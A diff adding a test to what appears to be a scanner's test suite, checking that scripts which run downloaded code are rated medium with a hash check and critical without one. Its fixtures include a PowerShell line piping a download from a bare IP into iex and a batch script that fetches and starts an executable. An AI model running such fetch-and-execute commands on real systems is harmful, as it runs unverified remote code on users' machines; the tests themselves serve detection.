@@ -67,3 +67,13 @@ def test_powershell_downloaded_file_started_after_a_hash_check_is_medium_without
     unchecked = text.replace("if ((Get-FileHash $p).Hash -ne $Pinned) { throw 'hash' }\n", "Write-Host 'ok'\n")
     assert _by_line("ps-runs-downloaded-code", "tools/get.ps1", unchecked) == {4: "critical"}
     assert _by_line("ps-runs-downloaded-code", "tools/get.psm1", "iwr http://203.0.113.9/a | iex\n") == {1: "critical"}
+
+
+def test_batch_download_started_after_a_hash_check_is_medium_without_it_critical():
+    text = ("@echo off\n"
+            "curl -fsSL -o %TEMP%\\setup.exe https://example.org/setup.exe\n"
+            "certutil -hashfile %TEMP%\\setup.exe SHA256 | findstr /i %PINNED% || exit /b 1\n"
+            "start \"\" /wait %TEMP%\\setup.exe\n")
+    assert _by_line("win-script-runs-downloaded-code", "get.bat", text) == {4: "medium"}
+    unchecked = text.replace("certutil -hashfile %TEMP%\\setup.exe SHA256 | findstr /i %PINNED% || exit /b 1\n", "")
+    assert _by_line("win-script-runs-downloaded-code", "get.cmd", unchecked) == {3: "critical"}
